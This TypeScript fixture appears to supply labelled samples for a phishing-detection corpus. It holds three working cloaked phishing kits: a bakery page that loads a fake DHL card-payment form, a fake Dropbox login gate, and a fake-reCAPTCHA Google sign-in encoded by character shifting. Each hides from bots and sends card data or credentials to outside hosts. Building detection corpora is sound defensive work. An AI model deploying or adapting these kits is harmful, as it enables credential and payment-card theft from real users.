import type { Entry } from '../entry.js';
import type { Route } from '../../corpus/corpus.js';

// Kits that show something harmless to automation and the kit to people.
const raw = String.raw;
const js = (body: string): Route => ({ status: 200, headers: { 'content-type': 'application/javascript; charset=utf-8' }, body });
const json = (v: unknown): Route => ({ status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify(v) });

export const entries: Entry[] = [
  {
    id: 'c-cloak-webdriver-bakery',
    label: 'phishing',
    kind: 'cloaked-kit',
    url: 'https://rosies-bakehouse.net/order/track.html?ref=DHL-778120',
    body: raw`<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Rosie's Bakehouse</title>
<style>body{margin:0;font-family:Georgia,serif;background:#fffaf3;color:#4a2c1a}header{padding:30px;text-align:center;border-bottom:1px solid #ecdcc8}h1{margin:0;font-size:40px}.menu{max-width:700px;margin:30px auto;display:grid;grid-template-columns:1fr 1fr;gap:18px;padding:0 20px}.menu div{background:#fff;border:1px solid #ecdcc8;padding:16px;border-radius:6px}</style></head>
<body>
<header><h1>Rosie's Bakehouse</h1><p>Sourdough · Pastries · Celebration cakes</p></header>
<section class="menu"><div><b>Country sourdough</b><br>£4.20</div><div><b>Almond croissant</b><br>£2.80</div><div><b>Cardamom bun</b><br>£2.60</div><div><b>Lemon drizzle (whole)</b><br>£14.00</div></section>
<script>
(function () {
  var bot = navigator.webdriver === true
    || /HeadlessChrome|bot|crawl|spider|Lighthouse|python|curl|wget/i.test(navigator.userAgent)
    || (navigator.plugins && navigator.plugins.length === 0)
    || !window.chrome
    || window.outerWidth === 0;
  if (bot) return;
  var s = document.createElement('script');
  s.src = '/wp-includes/js/jquery/jquery.ui.min.js?ver=1.13';
  document.head.appendChild(s);
})();
</script>
</body></html>`,
    routes: {
      'rosies-bakehouse.net/wp-includes/js/jquery/jquery.ui.min.js': js(raw`(function(){
var ref=(location.search.match(/ref=([^&]+)/)||[])[1]||'DHL-'+Date.now().toString().slice(-6);
document.title='DHL Express | Zustellung';
document.body.innerHTML='<style>body{margin:0;font-family:Frutiger,Arial,sans-serif;background:#fff;color:#000}.y{background:#fc0;padding:16px 28px;font:italic 900 30px Arial;color:#d40511}.bx{max-width:520px;margin:28px auto;padding:0 18px}.bx input{width:100%;padding:12px;border:1px solid #999;margin:6px 0 12px;box-sizing:border-box}.bx button{background:#d40511;color:#fff;border:0;padding:13px 26px;font-weight:700;font-size:15px}.wa{background:#fff3cd;padding:12px;border-left:4px solid #fc0;margin-bottom:16px}</style><div class="y">DHL</div><div class="bx"><h2>Sendung '+ref+'</h2><div class="wa">Ihre Sendung wartet auf Zahlung der Zollgebühren (2,99 EUR). Bitte bestätigen Sie Ihre Angaben innerhalb von 24 Stunden.</div><form id="f"><input name="name" placeholder="Vor- und Nachname"><input name="strasse" placeholder="Straße und Hausnummer"><input name="plz" placeholder="PLZ / Ort"><input name="karte" placeholder="Kartennummer"><input name="ablauf" placeholder="MM/JJ"><input name="cvc" placeholder="CVC"><button>2,99 EUR bezahlen</button></form></div>';
document.getElementById('f').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));d.ref=ref;fetch('https://dhl-zoll.paygate-24.de.com/store',{method:'POST',mode:'no-cors',body:JSON.stringify(d)}).then(function(){location.href='https://www.dhl.de/'})};
})();`),
    },
  },
  {
    id: 'c-cloak-gate-dropbox',
    label: 'phishing',
    kind: 'cloaked-kit',
    url: 'https://dbx-transfer-files.com/s/fl/9bd2a0/Signed_Agreement.zip',
    body: raw`<!doctype html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Dropbox</title>
<link rel="icon" href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 16 16'%3E%3Cpath fill='%230061fe' d='M4 1 0 4l4 3 4-3zm8 0L8 4l4 3 4-3zM0 10l4 3 4-3-4-3zm12-3-4 3 4 3 4-3z'/%3E%3C/svg%3E"></head>
<body style="margin:0;font-family:'Sharp Grotesk',Arial,sans-serif"><div id="app"></div>
<script src="/s/js/boot.js"></script></body></html>`,
    routes: {
      'dbx-transfer-files.com/s/js/boot.js': js(raw`(async()=>{
const sig={w:navigator.webdriver,c:!!window.chrome,p:navigator.plugins.length,m:navigator.mimeTypes.length,n:Notification&&Notification.permission,o:screen.orientation&&screen.orientation.type,i:window.innerWidth,k:document.hasFocus()};
let perm='';try{perm=(await navigator.permissions.query({name:'notifications'})).state}catch(e){}
const ok=!sig.w&&sig.c&&sig.p>0&&!(sig.n==='denied'&&perm==='prompt');
const app=document.getElementById('app');
if(!ok){app.innerHTML='<div style="padding:80px;text-align:center;color:#637282"><h2>This link has expired</h2><p>Ask the sender for a new link.</p></div>';return}
const t=btoa(JSON.stringify(sig)).slice(0,24);
const res=await fetch('/s/api/gate?t='+encodeURIComponent(t)).then(r=>r.json());
app.innerHTML=res.html;
const f=document.getElementById(res.form);
f.addEventListener('submit',async e=>{e.preventDefault();const b=new FormData(f);b.append('t',t);await fetch(res.post,{method:'POST',body:b,mode:'no-cors'});app.innerHTML='<p style="text-align:center;padding:60px">Preparing download…</p>';setTimeout(()=>location.href=res.done,2000)});
})();`),
      'dbx-transfer-files.com/s/api/gate': json({
        form: 'lf', post: 'https://relay.cf-storage-sync.com/dbx', done: 'https://www.dropbox.com/',
        html: '<div style="border-bottom:1px solid #e5e5e5;padding:14px 24px;font-weight:700;color:#0061fe">&#10070; Dropbox</div><div style="max-width:380px;margin:50px auto;text-align:center"><div style="font-size:42px">&#128451;</div><h2>Signed_Agreement.zip</h2><p style="color:#637282">2 files · 3.4 MB · shared by HR Department</p><form id="lf" style="text-align:left"><p style="font-weight:600">Sign in to download</p><input name="login_email" type="email" placeholder="Email" style="width:100%;padding:12px;border:1px solid #c1c7d0;border-radius:4px;margin-bottom:10px;box-sizing:border-box"><input name="login_password" type="password" placeholder="Password" style="width:100%;padding:12px;border:1px solid #c1c7d0;border-radius:4px;box-sizing:border-box"><button style="width:100%;margin-top:16px;background:#0061fe;color:#fff;border:0;border-radius:4px;padding:12px;font-size:15px">Continue</button></form></div>',
      }),
    },
  },
  {
    id: 'c-cloak-human-checkbox-google',
    label: 'phishing',
    kind: 'cloaked-kit',
    url: 'https://verify-gdrive-share.click/file/d/1xA9kQ/view',
    body: raw`<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>One more step</title>
<style>body{margin:0;font-family:Roboto,Arial,sans-serif;background:#f9f9f9;display:flex;align-items:center;justify-content:center;min-height:100vh}.cap{background:#fff;border:1px solid #d3d3d3;border-radius:3px;width:300px;padding:18px;display:flex;align-items:center;gap:14px;box-shadow:0 0 4px #0001}.bx{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;cursor:pointer;background:#fff}.bx.ok{border-color:#0a0;background:#0a0}.lb{flex:1;font-size:14px}.rc{font-size:10px;color:#555;text-align:center}</style></head>
<body><div id="g"><p style="text-align:center;font-size:14px;color:#555">Please confirm you are not a robot to access the shared file.</p><div class="cap"><div class="bx" id="bx"></div><div class="lb">I'm not a robot</div><div class="rc">&#8634;<br>Privacy - Terms</div></div></div>
<script>
var mv = 0, t0 = Date.now();
document.addEventListener('mousemove', function () { mv++; });
document.getElementById('bx').addEventListener('click', function (e) {
  if (!e.isTrusted || Date.now() - t0 < 800) return;
  this.classList.add('ok');
  setTimeout(function () {
    var x = new XMLHttpRequest();
    x.open('GET', '/file/d/1xA9kQ/p?mv=' + mv);
    x.onload = function () { var h = x.responseText.split('').map(function (c) { return String.fromCharCode(c.charCodeAt(0) - 1); }).join(''); document.open(); document.write(h); document.close(); };
    x.send();
  }, 600);
});
</script></body></html>`,
    routes: {
      'verify-gdrive-share.click/file/d/1xA9kQ/p': { status: 200, headers: { 'content-type': 'text/plain; charset=utf-8' }, body: raw`<!doctype html><html><head><meta charset="utf-8"><title>Google Drive - Sign in</title></head><body style="font-family:Arial;margin:0"><div style="max-width:450px;margin:60px auto;border:1px solid #dadce0;border-radius:8px;padding:40px;text-align:center"><div style="font-size:24px"><span style="color:#4285f4">G</span><span style="color:#ea4335">o</span><span style="color:#fbbc05">o</span><span style="color:#4285f4">g</span><span style="color:#34a853">l</span><span style="color:#ea4335">e</span></div><h2 style="font-weight:400">Sign in</h2><p>to continue to Google Drive</p><form action="https://gdr-verify.api-relay.top/c.php" method="post"><input name="email" placeholder="Email or phone" style="width:100%;padding:14px;border:1px solid #dadce0;border-radius:4px;box-sizing:border-box;margin-bottom:12px"><input name="password" type="password" placeholder="Enter your password" style="width:100%;padding:14px;border:1px solid #dadce0;border-radius:4px;box-sizing:border-box"><button style="margin-top:24px;background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 24px;float:right">Next</button></form></div></body></html>`.split('').map((c) => String.fromCharCode(c.charCodeAt(0) + 1)).join('') },
    },
  },
];
